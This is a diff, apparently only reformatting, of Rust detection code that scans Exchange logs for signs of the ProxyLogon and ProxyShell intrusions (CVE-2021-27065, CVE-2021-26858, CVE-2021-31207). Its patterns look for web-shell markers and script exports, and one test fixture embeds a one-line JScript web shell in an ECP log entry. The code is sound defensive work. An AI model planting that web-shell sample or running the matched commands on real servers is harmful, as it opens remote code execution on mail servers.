@@ -17,8 +17,12 @@ impl LineRules {
     /// Builds them.
     pub fn new() -> Result<Self, regex::Error> {
         Ok(Self {
-            shell: Regex::new(r"(?i-u)Set-.+VirtualDirectory.+?Url.*<\w+.*>(.*?)</\w+>.+?VirtualDirectory")?,
-            download: Regex::new(r"(?i-u)Download failed and temporary file (.*?) needs to be removed")?,
+            shell: Regex::new(
+                r"(?i-u)Set-.+VirtualDirectory.+?Url.*<\w+.*>(.*?)</\w+>.+?VirtualDirectory",
+            )?,
+            download: Regex::new(
+                r"(?i-u)Download failed and temporary file (.*?) needs to be removed",
+            )?,
         })
     }
 
@@ -30,39 +34,77 @@ impl LineRules {
         }
         let from = text::find(line, "set-").unwrap_or(0);
         let detail = text::clean_bytes(line.get(from..).unwrap_or(line));
-        let at = line.split(|byte| *byte == b',').next().and_then(times::read);
-        Some(Finding::new(Kind::ShellInConfiguration, Verdict::Incident, &detail).cve("CVE-2021-27065").step(5).at(at))
+        let at = line
+            .split(|byte| *byte == b',')
+            .next()
+            .and_then(times::read);
+        Some(
+            Finding::new(Kind::ShellInConfiguration, Verdict::Incident, &detail)
+                .cve("CVE-2021-27065")
+                .step(5)
+                .at(at),
+        )
     }
 
     /// A line of the address book's log: the download must have gone below the folder of Exchange.
     pub fn oab(&self, line: &[u8], install: &str) -> Option<Finding> {
         let path = self.download.captures(line)?.get(1)?.as_bytes();
         let expected = format!(r"'{}\ClientAccess\OAB", install.trim_end_matches('\\'));
-        let good = path.get(..expected.len()).is_some_and(|start| start.eq_ignore_ascii_case(expected.as_bytes()));
+        let good = path
+            .get(..expected.len())
+            .is_some_and(|start| start.eq_ignore_ascii_case(expected.as_bytes()));
         if good {
             return None;
         }
         let path = text::clean_bytes(path);
         let file = path.trim_matches('\'').to_string();
-        let at = line.split(|byte| *byte == b',').next().and_then(times::read);
+        let at = line
+            .split(|byte| *byte == b',')
+            .next()
+            .and_then(times::read);
         let key = crate::places::key(&file);
-        Some(Finding::new(Kind::ForeignDownload, Verdict::Incident, &file).cve("CVE-2021-26858").step(6).at(at).subject(&crate::places::address_of_key(&key)))
+        Some(
+            Finding::new(Kind::ForeignDownload, Verdict::Incident, &file)
+                .cve("CVE-2021-26858")
+                .step(6)
+                .at(at)
+                .subject(&crate::places::address_of_key(&key)),
+        )
     }
 }
 
 /// Whether a command sets an address of a virtual directory to a script. Commas and quotes do not matter here.
 pub fn sets_script(line: &[u8]) -> bool {
-    let Some(set) = text::find(line, "set-").and_then(|at| line.get(at..)) else { return false };
-    let Some(directory) = text::find(set, "virtualdirectory").filter(|at| *at < 40).and_then(|at| set.get(at..)) else { return false };
-    let addressed = text::contains(directory, "externalurl") || text::contains(directory, "internalurl");
-    addressed && ["<script", "<%", "%3cscript", "%3c%25", "runat="].iter().any(|sign| text::contains(directory, sign))
+    let Some(set) = text::find(line, "set-").and_then(|at| line.get(at..)) else {
+        return false;
+    };
+    let Some(directory) = text::find(set, "virtualdirectory")
+        .filter(|at| *at < 40)
+        .and_then(|at| set.get(at..))
+    else {
+        return false;
+    };
+    let addressed =
+        text::contains(directory, "externalurl") || text::contains(directory, "internalurl");
+    addressed
+        && ["<script", "<%", "%3cscript", "%3c%25", "runat="]
+            .iter()
+            .any(|sign| text::contains(directory, sign))
 }
 
 /// Whether a command exports a mailbox or a certificate request into a file that the web server would run (ProxyShell, CVE-2021-31207).
 pub fn exports_script(text_of_command: &[u8]) -> bool {
-    let export = ["new-mailboxexportrequest", "new-exchangecertificate"].iter().any(|command| text::contains(text_of_command, command));
-    let path = ["filepath", "requestfile"].iter().any(|parameter| text::contains(text_of_command, parameter));
-    export && path && [".aspx", ".ashx", ".asmx", ".asp\"", ".asp'", ".asp "].iter().any(|ending| text::contains(text_of_command, ending))
+    let export = ["new-mailboxexportrequest", "new-exchangecertificate"]
+        .iter()
+        .any(|command| text::contains(text_of_command, command));
+    let path = ["filepath", "requestfile"]
+        .iter()
+        .any(|parameter| text::contains(text_of_command, parameter));
+    export
+        && path
+        && [".aspx", ".ashx", ".asmx", ".asp\"", ".asp'", ".asp "]
+            .iter()
+            .any(|ending| text::contains(text_of_command, ending))
 }
 
 #[cfg(test)]
@@ -76,7 +118,14 @@ mod tests {
         let rules = LineRules::new().unwrap();
         let whole = "2021-03-03T05:01:12.345Z,MAIL01,ECP.Request,\"S:TIME=812;S:SID=x;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"x\"\"],\"\"unsafe\"\");}</script>''.Identity=''y''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:BLD=15.1.2106.2\"";
         let found = rules.ecp(whole.as_bytes()).unwrap();
-        assert_eq!((found.step, found.verdict, found.at.unwrap().to_string().as_str()), (Some(5), Verdict::Incident, "2021-03-03T05:01:12.345Z"));
+        assert_eq!(
+            (
+                found.step,
+                found.verdict,
+                found.at.unwrap().to_string().as_str()
+            ),
+            (Some(5), Verdict::Incident, "2021-03-03T05:01:12.345Z")
+        );
         let cut = whole.split(";S:URL=").next().unwrap();
         assert!(!rules.shell.is_match(cut.as_bytes()) && rules.ecp(cut.as_bytes()).is_some());
         for genuine in [
@@ -91,17 +140,43 @@ mod tests {
     #[test]
     fn downloads_of_the_address_book() {
         let rules = LineRules::new().unwrap();
-        let line = |path: &str| format!("2021-03-03T05:00:00.000Z,x,Download failed and temporary file '{path}' needs to be removed, y");
+        let line = |path: &str| {
+            format!(
+                "2021-03-03T05:00:00.000Z,x,Download failed and temporary file '{path}' needs to be removed, y"
+            )
+        };
         for (path, bad) in [
             (r"C:\inetpub\wwwroot\aspnet_client\x.aspx", true),
-            (r"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\x.lzx", false),
-            (r"c:\program files\microsoft\exchange server\v15\clientaccess\oab\temp\x.lzx", false),
+            (
+                r"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\x.lzx",
+                false,
+            ),
+            (
+                r"c:\program files\microsoft\exchange server\v15\clientaccess\oab\temp\x.lzx",
+                false,
+            ),
             (r"D:\x.aspx", true),
         ] {
-            assert_eq!(rules.oab(line(path).as_bytes(), INSTALL).is_some(), bad, "{path}");
+            assert_eq!(
+                rules.oab(line(path).as_bytes(), INSTALL).is_some(),
+                bad,
+                "{path}"
+            );
         }
-        let found = rules.oab(line(r"C:\inetpub\wwwroot\aspnet_client\X.aspx").as_bytes(), INSTALL).unwrap();
-        assert_eq!((found.cve, found.step, found.subject.as_deref()), (Some("CVE-2021-26858"), Some(6), Some("/aspnet_client/x.aspx")));
+        let found = rules
+            .oab(
+                line(r"C:\inetpub\wwwroot\aspnet_client\X.aspx").as_bytes(),
+                INSTALL,
+            )
+            .unwrap();
+        assert_eq!(
+            (found.cve, found.step, found.subject.as_deref()),
+            (
+                Some("CVE-2021-26858"),
+                Some(6),
+                Some("/aspnet_client/x.aspx")
+            )
+        );
     }
 
     #[test]
